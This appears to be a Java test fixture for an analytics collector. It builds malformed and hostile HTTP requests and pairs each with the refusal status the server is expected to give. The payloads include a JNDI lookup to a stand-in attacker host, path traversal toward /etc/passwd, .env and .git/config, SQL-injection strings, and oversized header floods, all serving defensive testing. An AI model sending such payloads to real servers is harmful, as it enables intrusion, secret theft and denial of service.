package dev.footfall.collector.hostile;

import static dev.footfall.collector.hostile.Hostile.bare;
import static dev.footfall.collector.hostile.Hostile.raw;
import static dev.footfall.collector.hostile.Hostile.refused;

import dev.footfall.collector.hostile.Hostile.Answered;
import dev.footfall.collector.hostile.Hostile.Expected;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Request lines, headers and targets that are not those of a browser. */
final class HostileHeads {
    private static final String HOST = "\r\nHost: x\r\n\r\n";
    private static final String STATS = "/api/v1/stats?";

    private HostileHeads() {}

    static Stream<Hostile> all() {
        return Stream.of(requestLines(), headers(), floods(), targets(), pixels(), queries())
                .flatMap(group -> group);
    }

    private static Stream<Hostile> requestLines() {
        return Stream.of(
                line(refused(405), "BREW /track/hit HTTP/1.1"),
                line(refused(400), "post /track/hit HTTP/1.1"),
                line(refused(405), "TRACE /track/ping HTTP/1.1"),
                line(bare(400), "X".repeat(1_000) + " /track/hit HTTP/1.1"),
                line(bare(400), "P(ST /track/hit HTTP/1.1"),
                line(bare(400), "P\0ST /track/hit HTTP/1.1"),
                line(refused(404), "CONNECT evil.example:443 HTTP/1.1"),
                line(refused(404), "OPTIONS * HTTP/1.1"),
                line(bare(400), "GET * HTTP/1.1"),
                line(bare(400), "GET evil.example:80 HTTP/1.1"),
                line(refused(404), "GET http://evil.example/ HTTP/1.1"),
                line(refused(405), "GET http://evil.example/track/hit HTTP/1.1"),
                line(bare(400), "GET  HTTP/1.1"),
                line(bare(400), "GET /track/\u00e9 HTTP/1.1"),
                line(bare(400), "GET /\\..\\..\\etc HTTP/1.1"),
                line(bare(400), "GET /${jndi:ldap://evil.example/a} HTTP/1.1"),
                line(bare(400), "GET /"),
                line(bare(400), "GET"),
                line(refused(400), "GET / HTTP/0.9"),
                line(refused(404), "GET / HTTP/1.2"),
                line(bare(400), "GET / HTTP/2.0"),
                line(bare(400), "GET / HTTP/3"),
                line(bare(400), "GET / HTTP/1.1.1"),
                line(bare(400), "GET / HTTP/-1.1"),
                line(bare(400), "GET / FOO/1.1"),
                line(bare(400), "GET / http/1.1"),
                line(bare(400), " GET / HTTP/1.1"),
                line(bare(400), "GET\t/\tHTTP/1.1"),
                line(
                        bare(400),
                        "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003"),
                raw(
                        "HTTP/2 without asking",
                        bare(400),
                        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0"),
                raw("HTTP/0.9", bare(400), "GET /\r\n"));
    }

    private static Hostile line(Expected answer, String line) {
        return raw("line: " + shown(line), answer, line + HOST);
    }

    private static Stream<Hostile> headers() {
        return Stream.of(
                header(bare(400), "no host", "Accept: x"),
                header(bare(400), "two hosts", "Host: x\r\nHost: y"),
                header(bare(400), "a name without a colon", "Host: x\r\nNonsense"),
                header(bare(400), "a blank before the colon", "Host : x"),
                header(bare(400), "no name", "Host: x\r\n: y"),
                header(new Answered(200), "a folded value", "Host: x\r\nX-A: b\r\n c"),
                header(bare(400), "a NUL in a name", "Host: x\r\nX\0: y"),
                header(bare(400), "a NUL in a value", "Host: x\r\nX: y\0z"),
                header(bare(400), "a carriage return in a value", "Host: x\r\nX: y\rz"),
                header(bare(400), "a name beyond ASCII", "Host: x\r\n\u00e9: y"),
                header(
                        new Answered(200),
                        "an expectation nobody knows",
                        "Host: x\r\nExpect: 200-ok"),
                header(
                        new Answered(200),
                        "an upgrade to HTTP/2",
                        "Host: x\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"),
                header(
                        new Answered(200),
                        "an upgrade to a socket",
                        "Host: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: x"),
                header(
                        new Answered(200),
                        "a date before dates",
                        "Host: x\r\nIf-Modified-Since: Mon, 99 Foo -999999999 99:99:99 GMT"),
                header(
                        new Answered(200),
                        "a range of everything",
                        "Host: x\r\nRange: bytes=" + "0-,".repeat(2_000)));
    }

    private static Hostile header(Expected answer, String name, String headers) {
        return raw(
                "header: " + name, answer, "GET /track/ping HTTP/1.1\r\n" + headers + "\r\n\r\n");
    }

    private static Stream<Hostile> floods() {
        return Stream.of(
                header(bare(400, 431), "a thousand of them", "Host: x" + many(1_000)),
                header(bare(400, 431), "ten thousand of them", "Host: x" + many(10_000)),
                header(bare(400, 431), "one of 17 kB", "Host: x\r\nX: " + "y".repeat(17_000)),
                header(bare(400, 431), "one of 1 MB", "Host: x\r\nX: " + "y".repeat(1_000_000)),
                header(
                        bare(400, 431),
                        "a name of 1 MB",
                        "Host: x\r\n" + "y".repeat(1_000_000) + ": x"),
                header(
                        bare(400, 431),
                        "a cookie of 20 kB",
                        "Host: x\r\nCookie: " + "a=b; ".repeat(4_000)),
                raw("a method of 1 MB", bare(400, 431), "G".repeat(1_000_000)),
                raw(
                        "a target of 1 MB",
                        bare(400, 414, 431),
                        "GET /" + "a".repeat(1_000_000) + " HTTP/1.1" + HOST),
                raw("1 MB of line ends", bare(400), "\r\n".repeat(500_000)),
                raw("1 MB of NUL", bare(400), "\0".repeat(1_000_000)));
    }

    private static String many(int count) {
        return String.join(
                "", IntStream.range(0, count).mapToObj(i -> "\r\nX-" + i + ": y").toList());
    }

    private static Stream<Hostile> targets() {
        return Stream.of(
                        "/track/../../etc/passwd",
                        "/track/hit/../nothing",
                        "/../",
                        "/./",
                        "/%2e%2e/%2e%2e/etc/passwd",
                        "/..%2f..%2fetc/passwd",
                        "/..%5c..%5cwindows",
                        "/track%2fhit",
                        "/track%2Fping",
                        "/track/hit%2f",
                        "/track/ping%00",
                        "/track/gif/../../secret.gif",
                        "/%c0%ae%c0%ae/",
                        "/tracker.js/",
                        "/tracker.js.map",
                        "/TRACKER.JS",
                        "/.git/config",
                        "/.env",
                        "/index.php?a=b",
                        "/wp-login.php",
                        "/api/v1/stats/../nothing",
                        "/api",
                        "/api/v2/stats",
                        "/metrics/..",
                        "//evil.example/%2f..",
                        "/" + "a/".repeat(4_000),
                        "/" + "../".repeat(4_000))
                .map(target ->
                        raw(
                                "target: " + shown(target),
                                refused(400, 404),
                                "GET " + target + " HTTP/1.1" + HOST));
    }

    /** A page shows no text in the place of a picture, so the refusal has none. */
    private static Stream<Hostile> pixels() {
        return Stream.of("%2e%2e%2fsecret", "..", "%00", "..%5c", "*", "'--", "x".repeat(8_000))
                .map(id ->
                        raw(
                                "pixel: " + shown(id),
                                bare(404),
                                "GET /track/gif/" + id + ".gif HTTP/1.1" + HOST));
    }

    private static Stream<Hostile> queries() {
        var refused =
                Stream.of(
                        "from=x",
                        "from=",
                        "from",
                        "from=1.5",
                        "from=9e99",
                        "from=NaN",
                        "from=0x10",
                        "from=99999999999999999999",
                        "from=%00",
                        "from=%ff",
                        "from=1%20",
                        "from=1;to=2",
                        "to=tomorrow",
                        "to=%E2%88%9E",
                        "from=--1",
                        "from=1'%20or%20'1'='1",
                        "from=1&from=1",
                        "from=1&from=x",
                        "from=" + "1".repeat(10_000));
        var answered =
                Stream.of(
                        "from=-9223372036854775808",
                        "from=9223372036854775807",
                        "to=-9223372036854775808",
                        "to=9223372036854775807",
                        "from=-9223372036854775808&to=9223372036854775807",
                        "from=9223372036854775807&to=-9223372036854775808",
                        "from=5&to=5",
                        "from=0&to=9223372036854775807&interval=minute",
                        "interval=';--",
                        "interval=" + "x".repeat(10_000),
                        "x=" + "x".repeat(10_000),
                        "&&&&==&=&");
        return Stream.of(
                        refused.map(query -> query(refused(400), query)),
                        answered.map(query -> query(new Answered(200), query)),
                        Stream.of(
                                query(bare(400), "from=%zz"),
                                query(bare(400), "from=%"),
                                query(bare(400, 414, 431), "from=1&".repeat(10_000)),
                                query(bare(400, 414, 431), "from=1&".repeat(2_000))))
                .flatMap(group -> group);
    }

    private static Hostile query(Expected answer, String query) {
        return raw("query: " + shown(query), answer, "GET " + STATS + query + " HTTP/1.1" + HOST);
    }

    private static String shown(String text) {
        return text.length() > 60 ? text.substring(0, 60) + "…" : text;
    }
}
